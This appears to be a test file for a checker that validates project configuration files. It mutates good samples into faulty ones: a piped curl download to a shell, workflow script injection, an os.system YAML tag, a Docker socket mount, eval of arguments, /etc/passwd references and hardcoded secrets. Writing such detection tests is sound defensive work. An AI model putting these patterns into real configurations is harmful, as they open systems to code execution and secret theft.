import { expect, test } from "vitest";
import { judge } from "#lib/io/sandbox/judge.fixture.ts";
import { CHECK_IDS, type CheckId, checksFor } from "../check.ts";
import { FILE_KINDS } from "../file-kind.ts";
import { documentReaders } from "./index.ts";

const PROJECT = `[build-system]
requires = ["uv_build>=0.13,<0.14"]
build-backend = "uv_build"

[project]
name = "pkg"
version = "0.1.0"
description = "Prices of stays"
readme = "README.md"
requires-python = ">=3.12"
license = "MIT"
license-files = ["LICENSE"]
dependencies = [
  "fastapi>=0.141,<1",
  "sqlalchemy[asyncio]>=2.1,<2.2; python_version >= '3.12'",
]

[project.scripts]
pkg = "pkg.stays:main"

[dependency-groups]
test = ["pytest>=9"]
dev = [{ include-group = "test" }]

[tool.ruff]
line-length = 100
`;

const WORKFLOW = `name: CI
on:
  push:
permissions: {}
jobs:
  lint:
    runs-on: ubuntu-24.04
    permissions:
      contents: read
    steps:
      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
        with:
          persist-credentials: false
      - name: Greet
        env:
          TITLE: \${{ github.event.issue.title }}
        run: |
          echo "hello"
          echo "$TITLE"
`;

const COMPOSE = `services:
  app:
    build: .
    environment:
      LOG_LEVEL: info
      DATABASE_PASSWORD: \${DATABASE_PASSWORD}
    ports:
      - "127.0.0.1:8000:8000"
    depends_on:
      - database
  database:
    image: postgres:18-trixie
    volumes:
      - data:/var/lib/postgresql
volumes:
  data: {}
`;

const DOCKERFILE = `FROM python:3.14-slim-trixie AS build
WORKDIR /srv
COPY pyproject.toml ./
RUN pip install --no-cache-dir uv \\
 && uv sync
COPY src ./src

FROM build AS run
ENV PATH=/srv/.venv/bin:$PATH
USER 10001:10001
CMD ["python", "-m", "pkg"]
`;

const PRE_COMMIT = `repos:
  - repo: https://github.com/pre-commit/pre-commit-hooks
    rev: v6.0.0
    hooks:
      - id: check-toml
  - repo: local
    hooks:
      - id: mypy
        name: mypy
        entry: mypy
        language: system
`;

const DEPENDABOT = `version: 2
updates:
  - package-ecosystem: uv
    directory: /
    schedule:
      interval: weekly
`;

const DEVCONTAINER = `{
  // The workplace.
  "name": "pkg",
  "build": { "dockerfile": "../Dockerfile" },
  "forwardPorts": [8000]
}
`;

const MARKDOWN = `# Prices

See [the licence](LICENSE), [the errors](docs/errors.md#shape), [below](#how-it-works) and [the web](https://example.com).

\`\`\`sh
echo "[not a link](nowhere.md)"
\`\`\`

## How it works

A \`[code](nowhere.md)\` is no link, and neither is \\[this\\](nowhere.md).
`;

const GOOD: Record<string, string> = {
  "pyproject.toml": PROJECT,
  ".github/workflows/ci.yml": WORKFLOW,
  "compose.yaml": COMPOSE,
  Dockerfile: DOCKERFILE,
  ".pre-commit-config.yaml": PRE_COMMIT,
  ".github/dependabot.yml": DEPENDABOT,
  ".devcontainer/devcontainer.json": DEVCONTAINER,
  "README.md": MARKDOWN,
  ".env.example": "# Who may call.\nAPI_KEY=\nLOG_LEVEL=info\n",
  Makefile: "VALUE := 1\n\ntest: lint\n\tpytest\n\nlint:\n\truff check .\n",
  "scripts/start.sh": "#!/bin/sh\nset -eu\ncat <<END\nhello\nEND\n",
  "mkdocs.yml": "site_name: pkg\nmarkdown_extensions:\n  - toc\n",
  "data/schema.json": '{ "a": 1 }\n',
};

test.each(Object.entries(GOOD))("a good %s passes every check", (path, text) => {
  const { outcomes, failing } = judge({ path, text, layer: "none" });
  expect(outcomes.flatMap(({ findings }) => findings)).toEqual([]);
  expect(failing).toEqual([]);
});

type Fault = [
  what: string,
  path: string,
  from: string | RegExp,
  to: string,
  check: CheckId,
  code: string,
  line: number,
];

const FAULTS: Fault[] = [
  ["a misspelt field", "pyproject.toml", "description =", "descripton =", "contract", "pyproject-unknown", 8],
  [
    "a requirement that is none",
    "pyproject.toml",
    '"fastapi>=0.141,<1"',
    '"fastapi=>0.141"',
    "contract",
    "pyproject-schema",
    14,
  ],
  [
    "a type check that looks away from the package",
    "pyproject.toml",
    "[build-system]",
    '[[tool.mypy.overrides]]\nmodule = ["pkg.*"]\nignore_errors = true\n\n[build-system]',
    "contract",
    "pyproject-blind",
    3,
  ],
  [
    "a linter without rules",
    "pyproject.toml",
    "[build-system]",
    "[tool.ruff.lint]\nselect = []\n\n[build-system]",
    "contract",
    "pyproject-blind",
    2,
  ],
  ["a version that is none", "pyproject.toml", '"0.1.0"', '"first"', "contract", "pyproject-schema", 7],
  ["another floor than the design's", "pyproject.toml", '>=3.12"', '>=3.9"', "contract", "pyproject-agrees", 10],
  [
    "a readme that is not there",
    "pyproject.toml",
    'readme = "README.md"',
    'readme = "READ.md"',
    "contract",
    "pyproject-agrees",
    9,
  ],
  [
    "a command that starts nothing",
    "pyproject.toml",
    "pkg.stays:main",
    "pkg.gone:main",
    "contract",
    "pyproject-agrees",
    19,
  ],
  [
    "a group that does not exist",
    "pyproject.toml",
    'include-group = "test"',
    'include-group = "tests"',
    "contract",
    "pyproject-agrees",
    23,
  ],
  ["no version", "pyproject.toml", 'version = "0.1.0"\n', "", "contract", "pyproject-agrees", 5],
  [
    "a dependency from a file",
    "pyproject.toml",
    '"fastapi>=0.141,<1"',
    '"fastapi @ file:///etc/passwd"',
    "security",
    "pyproject-direct",
    14,
  ],
  ["broken TOML", "pyproject.toml", "[project]", "[project", "syntax", "toml-syntax", 5],
  [
    "an expression in a script",
    ".github/workflows/ci.yml",
    '"$TITLE"',
    '"${{ github.event.issue.title }}"',
    "security",
    "workflow-injection",
    19,
  ],
  [
    "a branch name in a script",
    ".github/workflows/ci.yml",
    '"hello"',
    '"${{ github.head_ref }}"',
    "security",
    "workflow-injection",
    18,
  ],
  ["an action by its tag", ".github/workflows/ci.yml", /@3d3c\S+/, "@v7", "security", "workflow-unpinned", 11],
  ["an action without a version", ".github/workflows/ci.yml", /@3d3c\S+/, "", "contract", "workflow-job", 11],
  [
    "rights by default",
    ".github/workflows/ci.yml",
    /permissions: \{\}\n| {4}permissions:\n {6}contents: read\n/g,
    "",
    "security",
    "workflow-permissions",
    5,
  ],
  [
    "a token left on disk",
    ".github/workflows/ci.yml",
    "persist-credentials: false",
    "fetch-depth: 1",
    "security",
    "workflow-credentials",
    11,
  ],
  [
    "a trigger with all rights",
    ".github/workflows/ci.yml",
    "push:",
    "pull_request_target:",
    "security",
    "workflow-trigger",
    3,
  ],
  [
    "a printed secret",
    ".github/workflows/ci.yml",
    "github.event.issue.title",
    "secrets.TITLE",
    "security",
    "workflow-secret-printed",
    19,
  ],
  [
    "a download that runs",
    ".github/workflows/ci.yml",
    'echo "hello"',
    "curl -sSf https://x.example/i.sh | sh",
    "security",
    "piped-download",
    18,
  ],
  [
    "a job that needs nobody",
    ".github/workflows/ci.yml",
    "    runs-on",
    "    needs: build\n    runs-on",
    "contract",
    "workflow-job",
    7,
  ],
  [
    "a misspelt key of a step",
    ".github/workflows/ci.yml",
    "        run: |",
    "        runs: |",
    "contract",
    "workflow-unknown",
    17,
  ],
  [
    "an expression that never ends",
    ".github/workflows/ci.yml",
    "title }}",
    "title",
    "syntax",
    "workflow-expression",
    16,
  ],
  ["broken YAML", ".github/workflows/ci.yml", "    steps:", "   steps:", "syntax", "yaml-syntax", 10],
  [
    "a service without an image",
    "compose.yaml",
    "    image: postgres:18-trixie\n",
    "",
    "contract",
    "compose-reference",
    11,
  ],
  ["a dependency on nobody", "compose.yaml", "- database", "- databse", "contract", "compose-reference", 9],
  ["a volume nobody declared", "compose.yaml", "data:/var", "date:/var", "contract", "compose-reference", 14],
  [
    "a field compose does not know",
    "compose.yaml",
    "volumes:\n  data",
    "volume:\n  data",
    "contract",
    "compose-schema",
    15,
  ],
  [
    "ports of the wrong type",
    "compose.yaml",
    '    ports:\n      - "127.0.0.1:8000:8000"',
    "    ports: 8000",
    "contract",
    "compose-schema",
    7,
  ],
  ["an unquoted port", "compose.yaml", '"127.0.0.1:8000:8000"', "22:22", "style", "compose-port", 8],
  ["an image without a version", "compose.yaml", "postgres:18-trixie", "postgres", "style", "compose-image", 12],
  [
    "a secret in the environment",
    "compose.yaml",
    "${DATABASE_PASSWORD}",
    "hunter2-prod",
    "security",
    "compose-secret",
    6,
  ],
  [
    "a privileged service",
    "compose.yaml",
    "    build: .",
    "    build: .\n    privileged: true",
    "security",
    "compose-privileged",
    4,
  ],
  [
    "the socket of Docker",
    "compose.yaml",
    "data:/var/lib/postgresql",
    "/var/run/docker.sock:/var/run/docker.sock",
    "security",
    "compose-socket",
    14,
  ],
  ["an image called latest", "Dockerfile", "3.14-slim-trixie", "latest", "style", "dockerfile-latest", 1],
  ["an image without a tag", "Dockerfile", "python:3.14-slim-trixie", "python", "style", "dockerfile-latest", 1],
  ["root by omission", "Dockerfile", "USER 10001:10001\n", "", "security", "dockerfile-root", 8],
  ["root by name", "Dockerfile", "10001:10001", "root", "security", "dockerfile-root", 10],
  [
    "a secret in a layer",
    "Dockerfile",
    "ENV PATH=",
    "ENV API_TOKEN=zk39fj20 PATH=",
    "security",
    "dockerfile-secret",
    9,
  ],
  [
    "a remote ADD",
    "Dockerfile",
    "COPY src ./src",
    "ADD https://x.example/a.tar /srv",
    "security",
    "dockerfile-remote",
    6,
  ],
  [
    "a command in a shell",
    "Dockerfile",
    '["python", "-m", "pkg"]',
    "python -m pkg",
    "style",
    "dockerfile-shell-form",
    11,
  ],
  [
    "a list that is no JSON",
    "Dockerfile",
    '["python", "-m", "pkg"]',
    "['python', '-m', 'pkg']",
    "syntax",
    "dockerfile-list",
    11,
  ],
  ["an instruction nobody knows", "Dockerfile", "WORKDIR", "WORKDIRS", "syntax", "dockerfile-instruction", 2],
  ["no FROM", "Dockerfile", /FROM.*\n/g, "", "syntax", "dockerfile-from", 1],
  ["a hook from a branch", ".pre-commit-config.yaml", "v6.0.0", "main", "contract", "pre-commit-rev", 3],
  ["a hook without a version", ".pre-commit-config.yaml", "    rev: v6.0.0\n", "", "contract", "pre-commit-rev", 2],
  [
    "a local hook that starts nothing",
    ".pre-commit-config.yaml",
    "        entry: mypy\n",
    "",
    "contract",
    "pre-commit-local",
    8,
  ],
  ["an unknown ecosystem", ".github/dependabot.yml", "uv", "pipenv", "contract", "dependabot-schema", 3],
  ["an unknown interval", ".github/dependabot.yml", "weekly", "sometimes", "contract", "dependabot-schema", 6],
  [
    "a workplace that starts nothing",
    ".devcontainer/devcontainer.json",
    / {2}"build".*\n/,
    "",
    "contract",
    "devcontainer-schema",
    1,
  ],
  [
    "a workplace from a missing file",
    ".devcontainer/devcontainer.json",
    "../Dockerfile",
    "Dockerfile",
    "contract",
    "devcontainer-file",
    4,
  ],
  ["a comma too many", ".devcontainer/devcontainer.json", "[8000]", "[8000],", "syntax", "json-syntax", 6],
  ["a link to nowhere", "README.md", "(LICENSE)", "(LICENCE)", "contract", "markdown-link", 3],
  ["a link out of the repository", "README.md", "(LICENSE)", "(../../etc/passwd)", "contract", "markdown-link", 3],
  ["an anchor without a heading", "README.md", "#how-it-works", "#how", "contract", "markdown-anchor", 3],
  ["a code block that never ends", "README.md", "```\n\n## How", "\n\n## How", "syntax", "markdown-fence", 5],
  ["a value in .env.example", ".env.example", "API_KEY=", "API_KEY=q8Zt", "security", "dotenv-value", 2],
  ["a line that is no setting", ".env.example", "LOG_LEVEL=info", "LOG_LEVEL info", "syntax", "dotenv-syntax", 3],
  ["spaces in place of a tab", "Makefile", "\tpytest", "    pytest", "syntax", "makefile-tab", 4],
  ["a here-document that never ends", "scripts/start.sh", "\nEND\n", "\nENDE\n", "syntax", "shell-heredoc", 3],
  ["a script that goes on", "scripts/start.sh", "set -eu\n", "", "style", "shell-errexit", 1],
  ["a script that evaluates", "scripts/start.sh", "cat <<END", 'eval "$1"\ncat <<END', "security", "shell-eval", 3],
  [
    "a tag that calls Python",
    "mkdocs.yml",
    "- toc",
    "- !!python/object/apply:os.system [id]",
    "security",
    "yaml-object",
    3,
  ],
  ["a key that stands twice", "data/schema.json", '"a": 1', '"a": 1, "a": 2', "syntax", "json-key-twice", 1],
  [
    "a private key in a JSON file",
    "data/schema.json",
    "1",
    ['"-----BEGIN ', 'PRIVATE KEY-----"'].join(""),
    "security",
    "secret-private-key",
    1,
  ],
];

test.each(FAULTS)("%s in %s is found where it is", (_, path, from, to, check, code, line) => {
  const text = (GOOD[path] as string).replace(from, () => to);
  expect(text).not.toBe(GOOD[path]);
  const { findings, failing } = judge({ path, text, layer: "none" });
  const found = findings(check).find((one) => one.code === code);
  expect(findings(check).map((one) => [one.code, one.line])).toContainEqual([code, line]);
  expect(found?.mend).toBeTruthy();
  expect(failing).toContain(check);
});

test("what opens the door to strangers is never accepted", () => {
  const grave = FAULTS.filter(([, , , , , code]) =>
    /injection|secret|privileged|socket|yaml-object|private-key|dotenv-value/.test(code),
  );
  expect(grave.length).toBeGreaterThan(8);
  for (const [what, path, from, to] of grave)
    expect([what, judge({ path, text: (GOOD[path] as string).replace(from, () => to), layer: "none" }).accept]).toEqual(
      [what, "no"],
    );
});

test("an invisible mark that Python's reader of TOML refuses is found", () => {
  const path = "pyproject.toml";
  const { findings, failing } = judge({ path, text: `\ufeff${GOOD[path]}`, layer: "none" });
  expect([failing, findings("syntax").map(({ line }) => line)]).toEqual([["syntax"], [1]]);
});

test("aliases that multiply are refused and not unfolded", () => {
  const levels = Array.from(
    { length: 9 },
    (_, level) => `a${level + 1}: &a${level + 1} [${Array(9).fill(`*a${level}`).join(", ")}]`,
  );
  const { codes } = judge({ path: "data.yaml", text: `a0: &a0 x\n${levels.join("\n")}\n`, layer: "none" });
  expect(codes("syntax")).toEqual(["yaml-aliases"]);
});

test("a broken settings file for the linter is its own fault and breaks no other file", () => {
  const text = '"""Stays."""\n';
  expect(judge({ text, pyproject: "[tool.ruff\n" }).failing).toEqual([]);
  expect(judge({ text, pyproject: '[tool.ruff.lint]\nselect = ["NOPE1"]\n' }).codes("style")).toEqual([
    "ruff-settings",
  ]);
});

test("each kind of file is read by exactly the checks it declares", () => {
  const running: CheckId[] = ["types", "tests", "build", "security"];
  for (const { kind, checks: declared } of FILE_KINDS) {
    if (kind === "python") continue;
    const reader = Object.keys(documentReaders[kind]).filter((check) => check !== "security");
    expect([kind, [...declared].sort()]).toEqual([kind, reader.sort()]);
  }
  expect(
    checksFor("Dockerfile")
      .map(({ id }) => id)
      .filter((id) => !running.includes(id)),
  ).toEqual(["syntax", "style"]);
  expect(CHECK_IDS.length).toBe(8);
});
